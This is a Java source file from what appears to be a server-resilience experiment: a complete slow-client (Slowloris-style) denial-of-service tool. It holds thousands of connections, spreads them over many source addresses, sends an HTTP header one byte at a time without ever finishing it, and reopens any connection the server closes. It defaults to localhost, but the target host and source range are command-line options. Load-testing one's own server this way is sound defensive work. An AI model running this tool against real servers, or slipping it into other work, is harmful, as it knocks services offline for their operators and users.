package dev.headroom.experiments.slowclients;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * The slow-client attack, as a process of its own (so that its descriptors do not count against the server's):
 * {@code --connections N} connections, at most {@code --per-address K} from each source address (127.0.0.2, .3, …:
 * Linux routes all of 127/8 to loopback), each sending a request header one byte every {@code --interval-ms} and
 * never finishing it. A connection the server cuts is opened again at once; one it refuses (503) after a second.
 * One NIO selector, one thread. Every second, and once more when stdin closes (or {@code --max-seconds} pass), one
 * JSON line: {@code {"open":…,"max_open":…,"opened":…,"cut":…,"refused":…,"connect_failed":…,"final":…}}: {@code cut} is a close,
 * a reset or any answer but 503 ({@code refused}).
 */
public final class SlowClientAttacker {
    /** Connects in flight at most: the server's accept queue is not what is measured. */
    private static final int MAX_PENDING_CONNECTS = 256;
    private static final byte[] HEAD = "GET /products/1 HTTP/1.1\r\nHost: shop\r\nUser-Agent: slow-client\r\nX-Slow: "
            .getBytes(StandardCharsets.US_ASCII);
    private static final long RETRY_AFTER_REFUSAL_NANOS = 1_000_000_000L;

    private final InetSocketAddress target;
    private final InetAddress[] sources;
    private final long intervalNanos;
    private final Slot[] slots;
    private final SplittableRandom random = new SplittableRandom(18);
    private final ByteBuffer one = ByteBuffer.allocateDirect(1);
    private final ByteBuffer read = ByteBuffer.allocateDirect(4096);
    private volatile boolean stopping;
    private int pending;
    private long open;
    private long maxOpen;
    private long opened;
    private long cut;
    private long refused;
    private long connectFailed;

    /** One connection's place: opened again after each cut. */
    private static final class Slot {
        final InetAddress source;
        SocketChannel channel;
        boolean connected;
        long sent;
        long nextSend;
        long retryAt;
        /** The first bytes the server answered, to tell a refusal (503). */
        final byte[] answer = new byte[12];
        int answered;

        Slot(InetAddress source) {
            this.source = source;
        }
    }

    private SlowClientAttacker(InetSocketAddress target, int connections, int perAddress, InetAddress first, long intervalNanos) throws IOException {
        this.target = target;
        this.intervalNanos = intervalNanos;
        int addresses = (connections + perAddress - 1) / perAddress;
        this.sources = new InetAddress[addresses];
        byte[] base = first.getAddress();
        int start = Byte.toUnsignedInt(base[3]) | Byte.toUnsignedInt(base[2]) << 8;
        for (int i = 0; i < addresses; i++) {
            int n = start + i;
            sources[i] = InetAddress.getByAddress(new byte[] {base[0], base[1], (byte) (n >> 8), (byte) n});
        }
        this.slots = new Slot[connections];
        for (int i = 0; i < connections; i++) {
            slots[i] = new Slot(sources[i / perAddress]);
        }
    }

    public static void main(String[] args) throws Exception {
        Map<String, String> a = new HashMap<>();
        for (int i = 0; i + 1 < args.length; i += 2) {
            a.put(args[i], args[i + 1]);
        }
        SlowClientAttacker attacker = new SlowClientAttacker(
                new InetSocketAddress(InetAddress.getByName(a.getOrDefault("--host", "127.0.0.1")), Integer.parseInt(a.get("--port"))),
                Integer.parseInt(a.get("--connections")), Integer.parseInt(a.getOrDefault("--per-address", "1000")),
                InetAddress.getByName(a.getOrDefault("--first-address", "127.0.0.2")),
                Long.parseLong(a.getOrDefault("--interval-ms", "3000")) * 1_000_000L);
        Thread.ofPlatform().daemon().name("stdin").start(() -> {
            try (BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8))) {
                while (in.readLine() != null) {
                    // any line, or the end of stdin, stops the attack
                    break;
                }
            } catch (IOException e) {
                // stdin gone: stop as well
            }
            attacker.stopping = true;
        });
        attacker.run(System.nanoTime() + Long.parseLong(a.getOrDefault("--max-seconds", "600")) * 1_000_000_000L);
    }

    private void run(long deadline) throws IOException {
        try (Selector selector = Selector.open()) {
            long nextReport = System.nanoTime() + 1_000_000_000L;
            while (!stopping && System.nanoTime() < deadline) {
                long now = System.nanoTime();
                for (Slot s : slots) {
                    if (s.channel == null && pending < MAX_PENDING_CONNECTS && s.retryAt <= now) {
                        connect(selector, s);
                    } else if (s.connected && s.nextSend <= now) {
                        trickle(s, now);
                    }
                }
                selector.select(20);
                for (SelectionKey key : selector.selectedKeys()) {
                    Slot s = (Slot) key.attachment();
                    if (key.isValid() && key.isConnectable()) {
                        connected(key, s);
                    } else if (key.isValid() && key.isReadable()) {
                        answered(s);
                    }
                }
                selector.selectedKeys().clear();
                if (System.nanoTime() >= nextReport) {
                    report(false);
                    nextReport += 1_000_000_000L;
                }
            }
            report(true);
            for (Slot s : slots) {
                if (s.channel != null) {
                    s.channel.close();
                }
            }
        }
    }

    private void connect(Selector selector, Slot s) {
        try {
            SocketChannel ch = SocketChannel.open();
            s.channel = ch;
            ch.configureBlocking(false);
            ch.bind(new InetSocketAddress(s.source, 0));
            if (ch.connect(target)) {
                ch.register(selector, SelectionKey.OP_READ, s);
                established(s);
            } else {
                ch.register(selector, SelectionKey.OP_CONNECT, s);
                pending++;
            }
        } catch (IOException e) {
            connectFailed++;
            drop(s, false, RETRY_AFTER_REFUSAL_NANOS);
        }
    }

    private void connected(SelectionKey key, Slot s) {
        pending--;
        try {
            s.channel.finishConnect();
            key.interestOps(SelectionKey.OP_READ);
            established(s);
        } catch (IOException e) {
            connectFailed++;
            drop(s, false, RETRY_AFTER_REFUSAL_NANOS);
        }
    }

    private void established(Slot s) {
        s.connected = true;
        s.sent = 0;
        s.answered = 0;
        s.nextSend = System.nanoTime() + random.nextLong(intervalNanos); // spread over the interval, not all at once
        opened++;
        open++;
        maxOpen = Math.max(maxOpen, open);
    }

    /** The next byte of a header that never ends. */
    private void trickle(Slot s, long now) {
        one.clear();
        one.put(s.sent < HEAD.length ? HEAD[(int) s.sent] : (byte) 'a').flip();
        try {
            s.channel.write(one);
            s.sent++;
            s.nextSend = now + intervalNanos;
        } catch (IOException e) {
            cut(s);
        }
    }

    private void answered(Slot s) {
        try {
            read.clear();
            int n = s.channel.read(read);
            if (n > 0) {
                read.flip();
                while (read.hasRemaining() && s.answered < s.answer.length) {
                    s.answer[s.answered++] = read.get();
                }
                return;
            }
        } catch (IOException e) {
            // reset: counted as a cut below
        }
        cut(s);
    }

    /** The server ended the connection: refused it (503), or cut it (a close, a reset, a 408). */
    private void cut(Slot s) {
        boolean wasRefused = new String(s.answer, 0, s.answered, StandardCharsets.US_ASCII).startsWith("HTTP/1.1 503");
        if (wasRefused) {
            refused++;
        } else {
            cut++;
        }
        drop(s, true, wasRefused ? RETRY_AFTER_REFUSAL_NANOS : 0);
    }

    private void drop(Slot s, boolean wasOpen, long retryInNanos) {
        if (wasOpen && s.connected) {
            open--;
        }
        try {
            if (s.channel != null) {
                s.channel.close();
            }
        } catch (IOException e) {
            // closing anyway
        }
        s.channel = null;
        s.connected = false;
        s.retryAt = System.nanoTime() + retryInNanos;
    }

    private void report(boolean last) {
        System.out.printf("{\"open\":%d,\"max_open\":%d,\"opened\":%d,\"cut\":%d,\"refused\":%d,\"connect_failed\":%d,\"final\":%b}%n",
                open, maxOpen, opened, cut, refused, connectFailed, last);
        System.out.flush();
    }
}
